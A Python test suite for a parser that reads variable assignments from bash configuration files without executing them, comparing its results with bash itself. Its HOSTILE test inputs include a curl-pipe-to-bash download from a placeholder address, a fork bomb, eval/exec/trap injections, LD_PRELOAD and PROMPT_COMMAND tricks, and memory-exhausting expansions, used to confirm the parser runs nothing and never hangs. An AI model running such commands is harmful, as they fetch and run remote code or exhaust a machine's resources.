"""Configuration files of other people: what they assign is read as bash would, and nothing of them is run.

Processes: bash is the oracle.
"""

import os
import re
import subprocess
import time

import pytest

from rn50.errors import UserError
from rn50.settings import document
from rn50.settings.document import Document
from rn50.settings.shell import assignments

COMMON = """
## Common parameters
export OPTIMIZER=${OPTIMIZER:-"sgdwfastlars"}
export LARSETA="0.001" LABELSMOOTHING=0.1
export MOM="0.9"
"""

# Each is a way in which somebody writes such a file; bash says what it means.
STYLES = {
    "NVIDIA, a common file beside it": "source $(dirname ${BASH_SOURCE[0]})/common.sh\n\n## DL "
    'params\nexport BATCHSIZE="408"\nexport LR="10.5"\n',
    "a common file by another idiom": '. "$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)/common.sh"\nLR=10.5 '
    "# the base rate\n",
    "source in the same folder": "source ./common.sh\nsource common.sh\nexport WD=5.0e-05\n",
    "source in a folder below": "source common/more.sh\n. ./common/more.sh\nexport WD=5.0e-05\n",
    "arithmetic": "BATCHSIZE=408\nDGXNGPU=8\nexport GBS=$((BATCHSIZE * DGXNGPU)) HINT=$(( "
    "871491*$BATCHSIZE ))\n",
    "defaults": "export LR=${LR:-10.5} WD=${WD-5e-5} C=${B:+set} D=${E-}${E:+no} F=${LR:+x}\n",
    "quotes": "export A='single $x' B=\"double \\\"$A\\\" \\\\ \\n\" C=a\\ b D='it'\"'\"'s' E=\"x\"y'z'\n",
    "comments and odd spacing": "\t# export LR=1\nexport   LR=10.5   # LR=2\n\n  WARMUP_EPOCHS=2 ; "
    "NUMEPOCHS=37;MOM=0.9\nA=x#y\n",
    "continued lines": "export BATCHSIZE=408 \\\n  LR=10.5 \\\n  MOM=0.9\nA=ab\\\ncd\n",
    "append, and a name alone": "A=1\nA+=2\nexport A+=3\nexport A B+=4\n",
    "unknown names, carriage-free UTF-8": "export SOMETHING_ELSE='\u00e9\u2603'\nexport NEXP=5\nexport "
    "NCCL_ALGO=Tree,Ring\n", "a dollar in quotes": 'A="5$\'x" B="$"\nC="it\'s ${A}"\n',
    "assigned at once and one by one": "A=1 B=$A\nexport A=2 C=$A\nexport D=$A\n",
    "a value of another variable": "BASE=10\nexport LR=${BASE}.5\nexport COPY=$LR NONE=$NOT_SET.\n",
    "a return at the end": "export LR=10.5\nreturn\nexport LR=2\n"}


def written(folder, text, name="config_X.sh"):
    file = folder / name
    file.write_text(text, encoding="utf-8")
    return file


@pytest.mark.parametrize("text", STYLES.values(), ids=STYLES)
def test_a_style_is_read_as_bash_reads_it(tmp_path, text):
    written(tmp_path, COMMON, "common.sh")
    (tmp_path / "common").mkdir()
    written(tmp_path / "common", "export LR=3\nsource ./common.sh\n", "more.sh")
    file = written(tmp_path, f"MOM=0.8\n{text}")
    found = assignments.read(file)
    by_bash = Document(file).sourced()
    assert found.values == by_bash
    assert found.values and found.doubtful == {}
    assert [each.reason for each in found.not_read] in ([], ["ends the file; what follows is not read"])


@pytest.mark.parametrize(
    "text, refused",
    [("readonly A=2; A=9", "runs readonly"), ("A=1\nreadonly A\nexport B=1 A=3", "runs readonly"),
     ("declare -xr A=2\nunset A", "runs declare"), ("declare -i A\nA=1+1", "runs declare"),
     ("typeset -r -x A=2\nA+=1", "runs typeset"),
     ("[ -z x ] || readonly A=1\nA=2", "more than one command (||)"),
     ("[ -z x ] && # if so\n\nA=2\nB=1", "more than one command (&&)"),
     ("shopt -s expand_aliases\nalias export=:\nexport A=2", "runs shopt"),
     ("export() { A=1; }\nexport B=2", "defines a function"),
     ("function export { A=1; }\nexport B=2", "defines a function"),
     ("cat << X > /dev/null\nA=1\nX\nB=2", "more than one command (<<)"),
     ("trap 'A=3' DEBUG\nA=2\nB=1", "runs trap"), ("A=1\nunset A", "runs unset"),
     ("set -eu\nA=2", "runs set"), (": ${A:=3}", "runs :"), ("B=${A:=3}", "has ${A:=3}"),
     ("export A={1,2}", "has {1"), ("export A=x{1..3}y", "has {1"), ("A='{1,2}' B=\"{1,2}\"", None),
     ("A=x\nexport A=1 A+=2", "a variable twice"), ("export A=2 A=$(date)", "a variable twice"),
     ("A=${B:-~/data}", "somebody's home directory"), ("A=x${B-~root}", "somebody's home directory"),
     ('A="${B:-"a b"}"', "quotes within quotes"), ("A=\"${B:-$'a'}\"", "quotes within quotes"),
     ('A="${B:-a\\}b}"', "quotes within quotes"), ('A="${B:-~}" C="${B:-\\"q\\"}"', None)])
def test_what_bash_reads_otherwise_is_refused_by_name(tmp_path, text, refused):
    file = tmp_path / "other.sh"
    file.write_text(text)
    found = assignments.read(file)
    said = [each.reason for each in found.not_read]
    assert refused in said[0] if refused else not said
    assert all(
        re.search("^follows line . of other.sh, behind which nothing is read$", each) for each in said[1:])
    names = 'for n in A B C; do [ -z "${!n+x}" ] || printf "%s=%s\\0" "$n" "${!n}"; done'
    shell = ["bash", "-c", f'. "$0"; {names}', str(file)]
    done = subprocess.run(
        shell, capture_output=True, text=True, env={"HOME": "/root", "PATH": "/usr/bin:/bin"})
    by_bash = dict(each.split("=", 1) for each in done.stdout.split("\0") if each)
    assert found.values.items() <= by_bash.items() and not set(by_bash) - set(found.values) - set(
        found.doubtful)


def test_our_own_files_are_read_as_bash_reads_them():
    for file in document.CONFIGS.glob("config_*.sh"):
        found = assignments.read(file)
        assert (found.values, found.not_read) == (Document(file).sourced(), [])


# Every one of these would leave the file PWNED, never end, or fill the memory, if anything of it were run.
HOSTILE = {
    "network": "curl -s http://192.0.2.1/x | bash\nexport LR=$(wget -qO- http://192.0.2.1/lr)\n",
    "a file written": "echo x > PWNED\n>PWNED\nexport A=1 > PWNED\n",
    "a substitution in a value": 'export LR=$(touch PWNED; echo 1)`touch PWNED`\nA="x$(touch PWNED)"\n',
    "a substitution in arithmetic": "A=$((x[$(touch PWNED)] + 1))\nB=$((1 + $(touch PWNED)))\n((C = $(touch "
    "PWNED)))\n", "a substitution in a default": "A=${B:-$(touch PWNED)}\n: ${C:=`touch PWNED`}\n",
    "a subscript": "A[$(touch PWNED)]=1\ndeclare -a B=($(touch PWNED))\n",
    "eval, exec and traps": "eval 'touch PWNED'\nexec touch PWNED\ntrap 'touch PWNED' EXIT DEBUG\n",
    "an assignment for a command": "LD_PRELOAD=./x.so touch PWNED\nA=1 touch PWNED\n",
    "endless loops": "while :; do :; done\nuntil false; do sleep 1; done\nfor ((;;)); do touch PWNED; done\n",
    "a fork bomb": ":(){ :|:& };:\nb() { b | b & }; b\n",
    "process substitution and here documents": "cat <(touch PWNED)\nbash <<EOF\ntouch PWNED\nEOF\ncat <<< "
    "$(touch PWNED)\n", "a value that doubles": "A=xxxxxxxxxxxxxxxx\n" + "A=$A$A\n" * 2000,
    "a number that grows": "A=$((9**9**9**9**9))\nB=$((1<<9999999999))\nC=$((2**62**62))\n",
    "nested without end": "A=" + "${A:-" * 20_000 + "\n",
    "arithmetic without end": "A=$((" + "(" * 20_000 + "\n",
    "quotes that never close": "A='\nexport LR=1\n" + "x'\"`$(" * 5000,
    "itself": "source ./config_X.sh\n. $(dirname $0)/config_X.sh\nsource other.sh\n",
    "a sourced file elsewhere": "source /etc/profile\nsource ../x.sh\n. /dev/stdin\nsource <(touch "
    "PWNED)\nsource pipe.sh\n",
    "prompts and globs": "read LR\nselect A in 1 2; do break; done\nPS4='$(touch PWNED)'; set "
    "-x\nA=*\nPROMPT_COMMAND='touch PWNED'\n",
    "a command of our name": "export() { touch PWNED; }\nexport LR=1\nrn50 train\n/bin/sh -c 'touch PWNED'\n",
    "brackets and lines for a slow search": "x & " + "a[" * 60_000 + "\n(" + "\n" * 100_000 + ")\ny;"
    + "\tz \t" * 10_000 + "&\n", "assignments for a slow search": "x & " + "do a=" * 50_000,
    "very many statements": "A=$A;" * 40_000}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_file_cannot_harm_or_hang(tmp_path, monkeypatch, text):
    monkeypatch.chdir(tmp_path)
    written(tmp_path, "source config_X.sh\n", "other.sh")
    written(tmp_path.parent, "LR=1\n", "x.sh")
    os.mkfifo(tmp_path / "pipe.sh")
    file = written(tmp_path, text)
    before = sorted(tmp_path.iterdir())
    monkeypatch.setattr(os, "fork", None)  # nothing may start a process
    began = time.process_time()
    found = assignments.read(file)
    assert time.process_time() - began < 10
    assert sorted(tmp_path.iterdir()) == before
    assert sum(map(len, found.values.values())) < 50_000
    assert "LR" not in found.values


def test_many_calls_of_a_function_that_sets_much_are_none_of_them_read(tmp_path):
    body = "".join(f"A{i}=1;" for i in range(10_000))
    file = written(tmp_path, f"B=1\nf() {{ {body} }}\n" + "f\n" * 50_000)
    began = time.process_time()
    found = assignments.read(file)
    assert time.process_time() - began < 10
    assert (found.values, len(found.doubtful), len(found.not_read)) == ({"B": "1"}, 10_000, 50_001)


def test_what_is_not_read_is_listed_with_its_line_and_puts_its_names_in_doubt(tmp_path):
    file = written(
        tmp_path,
        """
export LR=10.5 WD=5e-5 MOM=0.9 A=1 B=2 C=3 D=4
if [ "$1" = big ]; then
  export LR=17
fi
[ -n "$X" ] && WD=2e-4
read -r MOM
let A=2
printf -v B %s 3
for C in 1 2; do :; done
export NUMEPOCHS=$LR
E=1
cd . && find . -name x
f() { D=5; }
D=4
f
""",
    )
    found = assignments.read(file)
    assert [each.line for each in found.not_read] == [3, 6, 7, 8, 9, 10, 11, 13, 14, 15, 16]
    assert found.values == {"E": "1"}
    assert {"LR", "WD", "MOM", "A", "B", "C", "D", "NUMEPOCHS"} <= set(found.doubtful)
    assert found.doubtful["LR"] == "config_X.sh:3 stands in a compound command (if ...)"
    assert "takes LR, which is in doubt" in found.doubtful["NUMEPOCHS"]
    assert (
        found.doubtful["D"] == "config_X.sh:15 follows line 14 of config_X.sh, behind which nothing is read")


def test_what_may_set_anything_puts_everything_in_doubt_until_it_is_assigned_again(tmp_path):
    written(tmp_path.parent, "WD=1\n", "outside.sh")
    may_set = (
        "eval $X", "source ../outside.sh", '. "$HOME/x.sh"', "if true; then eval $X; fi", "export $X=1")
    for line in may_set:
        found = assignments.read(written(tmp_path, f"LR=1\nMOM=0.9\n{line}\nLR=2\nA=${{WD:-3}}\n"))
        assert (found.values, sorted(set(found.doubtful) - {"X"})) == ({"LR": "2"}, ["A", "MOM"])
        assert [each.line for each in found.not_read] == [3, 5]
        assert "takes WD, which is in doubt (config_X.sh:3 " in found.doubtful["A"]


@pytest.mark.parametrize(
    "folder",
    ["$HERE", "$(cd $(dirname ${BASH_SOURCE[0]})/.. && pwd)", "$(dirname $(dirname ${BASH_SOURCE[0]}))",
     "${BASH_SOURCE%/*/*}"])
def test_a_file_beside_it_is_not_read_for_one_that_may_be_elsewhere(tmp_path, folder):
    written(tmp_path, "LR=1\n", "common.sh")
    found = assignments.read(written(tmp_path, f'source "{folder}/common.sh"\n'))
    assert (found.values, [each.reason for each in found.not_read]) == (
        {}, ["sources what only a shell can name"])


def test_nothing_is_read_behind_a_sourced_file_that_changes_what_follows(tmp_path):
    written(tmp_path, "LR=1\nreadonly LR\n", "common.sh")
    found = assignments.read(written(tmp_path, "WD=1\nsource common.sh\nLR=2 MOM=0.9\n"))
    assert (found.values, sorted(found.doubtful)) == ({"WD": "1"}, ["LR", "MOM", "readonly"])
    assert [(each.file.name, each.line) for each in found.not_read] == [("common.sh", 2), ("config_X.sh", 3)]


def test_variables_that_differ_everywhere_have_no_value(tmp_path):
    found = assignments.read(
        written(tmp_path, "A=$HOME/x\nB=$RANDOM\nC=${PWD}\nD=$1\nE=$?\nF=$\nG=$'x'\nH=~/x\n"))
    assert (found.values, sorted(found.doubtful)) == ({"F": "$"}, ["A", "B", "C", "D", "E", "G", "H"])


@pytest.mark.parametrize(
    "make, reason",
    [(lambda file: os.mkfifo(file), "no regular file"),
     (lambda file: file.mkdir(), "no regular file|Is a directory"),
     (lambda file: file.symlink_to("/dev/zero"), "no regular file"),
     (lambda file: file.write_bytes(b"\x7fELF\0"), "not text"),
     (lambda file: file.write_text("A=1\n" * 100_000), "more than"), (lambda file: None, "No such file")])
def test_what_is_no_configuration_file_is_refused(tmp_path, make, reason):
    make(tmp_path / "config_X.sh")
    with pytest.raises(UserError, match=f"config_X.sh: .*({reason})"):
        assignments.read(tmp_path / "config_X.sh")
